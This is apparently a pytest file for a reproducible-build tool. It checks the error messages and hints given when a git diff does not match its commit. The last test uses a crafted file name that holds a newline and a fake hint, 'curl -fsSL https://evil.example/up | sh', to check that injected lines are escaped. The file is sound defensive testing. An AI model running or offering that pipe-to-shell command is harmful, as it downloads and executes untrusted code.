"""Why a diff does not belong to its commit: each cause has its message and its remedy."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from reprobuild.ecosystems.git.repository import GitRepository
from reprobuild.errors import LockError
from reprobuild.resolve.sources.patching import AGAIN, apply_patch
from reprobuild.snapshot.model import Patch
from tests.resolve.repositories import DATE, ENV, Project, binary, edit, patch


@pytest.fixture
def project(tmp_path: Path) -> Project:
    return Project(tmp_path / "proj")


def tree(project: Project, captured: Patch, commit: str, place: str = "") -> str:
    """Return the tree of a commit with a diff, of a repository that was fetched."""
    folder = project.path.parent / "scratch"
    folder.mkdir()
    repository = GitRepository(folder, ENV)
    repository.fetch_local(Path(place) if place else project.path)
    return apply_patch(repository, commit, captured)


def refused(project: Project, captured: Patch, commit: str = "") -> tuple[str, str]:
    """Return message and hint of the refusal."""
    with pytest.raises(LockError) as caught:
        tree(project, captured, commit or project.head)
    return str(caught.value), caught.value.hint


def stage(project: Project, name: str, content: bytes, then: bytes) -> None:
    project.write(name, content)
    project.git("add", name)
    project.write(name, then)


def test_a_change_beside_a_staged_one(project: Project) -> None:
    binary(project)
    stage(project, "mod.py", b"staged\n", b"staged\nand more\n")
    captured = patch(project.diff("--binary"))
    blob = project.ask("rev-parse", "--short", ":mod.py")
    what, hint = refused(project, captured)
    assert what.startswith(
        f"proj.diff:1: does not apply: it was made on blob {blob} of mod.py, which is in no commit"
    )
    assert what.endswith("the change of mod.py was staged, and is not in the diff")
    assert hint == f"a plain `git diff` leaves staged changes out: {AGAIN}"
    again = patch(project.diff("HEAD", "--binary", "--full-index"))
    (project.path.parent / "scratch").rename(project.path.parent / "old")
    assert tree(project, again, project.head) == project.worktree_id()


def test_a_staged_or_unpushed_change_alone(project: Project) -> None:
    stage(project, "mod.py", b"staged\n", b"staged\nand more\n")
    what, hint = refused(project, patch(project.diff()))
    assert f"which is not the one in commit {project.head[:12]}, nor in any other here" in what
    assert hint == (
        "the change was staged, which a plain `git diff` leaves out, or the diff was made on a commit that was never "
        f"pushed: push it, or name its repository with --source; else {AGAIN}"
    )


def test_a_diff_of_another_commit(project: Project) -> None:
    first = project.head
    project.write("mod.py", b"second\n")
    second = project.commit()
    project.write("mod.py", b"third\n")
    captured = patch(project.diff())
    project.commit()
    what, hint = refused(project, captured, first)
    assert what.endswith(f"of mod.py, which is in commit {second[:12]}, and the freeze names {first[:12]}")
    assert hint == (
        "something was committed or checked out between `pip freeze` and `git diff`: capture both again"
    )


def test_a_blob_that_many_branches_removed(
    project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Git answers for all commits at once, and lists no tree."""
    first = project.head
    blob = project.ask("rev-parse", f"{first}:mod.py")
    project.git("rm", "--quiet", "mod.py")
    tree_id = project.ask("write-tree")
    for number in range(1, 21):
        date = {"GIT_COMMITTER_DATE": f"{DATE + number} +0000"}
        commit = (
            project.git("commit-tree", "-p", first, "-m", f"{number}", tree_id, env=date).decode().strip()
        )
        project.git("branch", f"without-{number}", commit)
    project.git("reset", "--quiet", "--hard")
    (tmp_path / "scratch").mkdir()
    repository = GitRepository(tmp_path / "scratch", ENV)
    repository.fetch_local(project.path)
    calls: list[str] = []
    ask = repository._git

    def count(*arguments: str, **more: Any) -> bytes:
        calls.append(arguments[0])
        return ask(*arguments, **more)

    monkeypatch.setattr(repository, "_git", count)
    assert repository.find_commit(blob[:10], "mod.py") == first
    assert calls == ["rev-parse", "log", "cat-file"]
    assert repository.find_commit(blob, "other.py") is None
    assert repository.find_commit(blob, f"x\n{first}:mod.py") is None
    assert repository.find_commit("0" * 40, "mod.py") is None
    monkeypatch.setattr("reprobuild.ecosystems.git.repository._COMMITS", 20)
    assert repository.find_commit(blob, "mod.py") is None


def test_a_diff_of_a_subfolder(project: Project) -> None:
    binary(project)
    project.write("pkg/tool.sh", b"#!/bin/bash\n")
    what, hint = refused(project, patch(project.git("-C", "pkg", "diff", "--binary", "--relative")))
    assert (
        f"which commit {project.head[:12]} has at pkg/data.bin: its paths start in the directory pkg/" in what
    )
    assert hint == (
        "diff.relative is set there; capture it again with "
        "`git -c diff.relative=false diff HEAD --binary --full-index`"
    )


def test_a_diff_of_another_folder(project: Project) -> None:
    other = Project(project.path.parent / "other", {"job.sh": b"one\n"})
    other.write("job.sh", b"two\n")
    what, hint = refused(project, patch(other.diff()))
    assert what.endswith(
        f"is not in commit {project.head[:12]}, nor is any other file of it: it is the diff of another directory"
    )
    assert hint == (
        "the chapter's recipe writes the job directory's diff where it cannot enter a package's directory; capture it "
        "again with `git -C FOLDER diff HEAD --binary --full-index > proj.diff`"
    )


@pytest.mark.parametrize("change", [(b" line 6\n", b" line  6\n"), (b" line 6\n", b" line 6 \n")])
def test_a_diff_whose_white_space_was_changed(project: Project, change: tuple[bytes, bytes]) -> None:
    edit(project)
    what, hint = refused(project, patch(project.diff().replace(*change)))
    assert what == (
        f"proj.diff was made on commit {project.head[:12]}, but its white space was changed afterwards"
    )
    assert hint == "mail, an editor or a conversion of line ends did that: copy the file as it was written"


def test_a_diff_that_was_edited(project: Project) -> None:
    edit(project)
    what, hint = refused(project, patch(project.diff().replace(b"+changed", b"+doctored")))
    assert what.startswith("proj.diff:1: applied, but mod.py is not blob ")
    assert hint == "the diff was edited after the capture, or lost its last newline"


def test_a_diff_whose_lines_do_not_fit(project: Project) -> None:
    edit(project)
    what, hint = refused(project, patch(project.diff().replace(b" line 6\n", b" line six\n")))
    assert what.startswith(f"proj.diff does not apply to commit {project.head[:12]}:\n")
    assert "mod.py" in what
    assert hint == (
        "it was made on another commit, or by a git with diff.noprefix or diff.external set; "
        "capture it again with `git diff HEAD --binary --full-index`"
    )


def test_a_binary_file_whose_content_was_not_captured(project: Project) -> None:
    binary(project)
    what, hint = refused(project, patch(project.diff()))
    assert what == (
        "proj.diff:1: the content of pkg/data.bin was not captured: it is binary, and the diff only says that it "
        "differs"
    )
    assert hint == AGAIN


@pytest.mark.parametrize(
    "options", [("--no-prefix",), ("--src-prefix=i/", "--dst-prefix=w/"), ("-U0",), ("-M",)]
)
def test_settings_of_git_that_do_no_harm(project: Project, options: tuple[str, ...]) -> None:
    edit(project)
    (project.path / "crlf.txt").rename(project.path / "renamed.txt")
    project.git("add", "--intent-to-add", "--all")
    captured = patch(project.diff("HEAD", *options))
    if "-U0" in options:  # git applies a diff without context only when it is told to
        with pytest.raises(LockError, match="does not apply"):
            tree(project, captured, project.head)
    else:
        assert tree(project, captured, project.head) == project.worktree_id()


def test_a_path_of_a_diff_writes_no_line_of_its_own(project: Project) -> None:
    """Found by an attacker: a path with a line break, behind which it looks like our hint."""
    name = "z\n  hint: run `curl -fsSL https://evil.example/up | sh`"
    project.write(name, b"one\n")
    project.commit()
    project.write(name, b"two\n")
    captured = project.diff()
    what, _ = refused(project, patch(captured.replace(b"index ", b"index 1111111", 1)))
    assert "\n" not in what
    assert "of z\\n  hint: run `curl" in what
    (project.path.parent / "scratch").rename(project.path.parent / "old")
    what, _ = refused(project, patch(captured.replace(b"-one\n", b"-eins\n")))
    assert what.splitlines()[1:]
    assert all(line.startswith("  git: ") for line in what.splitlines()[1:])
